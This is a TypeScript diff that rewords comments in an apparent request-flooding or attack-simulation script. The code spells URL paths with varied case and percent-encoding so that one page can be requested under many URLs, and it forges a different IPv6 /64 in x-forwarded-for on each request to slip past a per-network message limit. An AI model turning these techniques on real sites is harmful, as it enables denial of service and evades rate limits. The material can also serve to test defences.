@@ -33,8 +33,8 @@ const createRandomText = (length: number) =>
   randomBytes(length).toString('base64url').slice(0, length)
 
 /**
- * Returns a spelling of the word, such as `pOrT%72ait`. Each base-3 digit of `n` selects lowercase,
- * uppercase or percent-encoding for one letter.
+ * Returns a spelling of the word, such as `pOrT%72ait`, to request one page under many URLs. Each
+ * base-3 digit of `n` selects lowercase, uppercase or percent-encoding for one letter.
  */
 const getSpelling = (word: string, n: number) =>
   [...word]
@@ -78,7 +78,7 @@ const ATTACKS: Record<string, (n: number) => AttackRequest> = {
       ...SAME_ORIGIN_HEADERS,
       'content-type': 'application/x-www-form-urlencoded',
       // Simulates a client in a different IPv6 /64 network for each request, because the site
-      // counts the messages of each /64 network.
+      // limits the number of messages from each /64 network.
       'x-forwarded-for': `2001:db8:${(n >> 16).toString(16)}:${(n & 0xffff).toString(16)}::1`,
     },
     body: new URLSearchParams({
@@ -137,7 +137,7 @@ async function attackUntilEnd() {
     statuses[status] = (statuses[status] ?? 0) + 1
   }
 }
-// Ends the process 500 ms after the attack without waiting for pending responses.
+// Ends the process 500 ms after the end of the attack, even if responses are still pending.
 setTimeout(printResult, Number(values.seconds) * 1000 + 500)
 function printResult() {
   console.log(JSON.stringify(statuses))
